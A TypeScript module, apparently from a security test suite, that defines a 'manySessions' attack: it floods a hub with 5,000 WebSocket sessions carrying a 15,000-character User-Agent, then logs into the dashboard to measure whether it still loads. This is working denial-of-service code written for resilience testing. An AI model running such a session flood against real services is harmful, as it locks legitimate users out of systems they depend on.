import { WebSocket } from 'ws';
import { count } from '../../support/report.ts';
import type { Attack } from './attack.ts';
import { inTurns, keyAt, openSession } from './agents.ts';

const SESSIONS = 5_000;
const AGENT = 'u'.repeat(15_000);

/** Sessions with a long `User-Agent`, until the person's dashboard cannot be opened. */
export const manySessions: Attack = async ({ hub, keys }) => {
  const { done } = await inTurns(SESSIONS, 20, async () => {
    if ((await openSession(hub.url, keyAt(keys, 0), { 'user-agent': AGENT })) === undefined) throw new Error('refused');
  });
  const { bytes, ms, closed } = await openDashboard(hub.dashboard);
  const words = `${count(done)} sessions; the dashboard opened with ${count(bytes / 1024)} KiB in ${count(ms)} ms`;
  return closed === undefined ? { words } : { words: `${words}, then ${closed}`, harm: 'locked out' };
};

/** Logs in and opens the channel as the page does; reads the first answer and what it leads to. */
async function openDashboard(address: string): Promise<{ bytes: number; ms: number; closed?: string }> {
  const { origin, hash } = new URL(address);
  const token = hash.slice(hash.indexOf('=') + 1).replace('#', '');
  const start = performance.now();
  const login = await fetch(`${origin}/api/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin },
    body: JSON.stringify({ token }),
  });
  const cookie = String(login.headers.get('set-cookie')).split(';')[0] ?? '';
  const socket = new WebSocket(`${origin.replace('http', 'ws')}/api/ws`, { headers: { cookie, origin } });
  let [bytes, id] = [0, 0];
  const ask = (m: string, ...a: unknown[]): void => socket.send(JSON.stringify({ t: 'q', i: `q${id++}`, m, a }));
  const { promise, resolve } = Promise.withResolvers<string | undefined>();
  socket.on('open', () => ask('open', {}));
  socket.on('message', (data: Buffer) => {
    bytes += data.length;
    const { t, e, r } = JSON.parse(data.toString()) as { t: string; e?: unknown; r?: { more?: boolean } };
    if (t !== 's') return; // a push
    if (e !== undefined) ask('open'); // of 0.1.0, whose calls take no object
    else if (r?.more === true) ask('openMore', {});
    else resolve(undefined);
  });
  socket.on('close', (code) => resolve(`closed with ${code}`));
  socket.on('error', (error) => resolve(error.message));
  const closed = await promise;
  socket.close();
  return { bytes, ms: performance.now() - start, ...(closed === undefined ? {} : { closed }) };
}
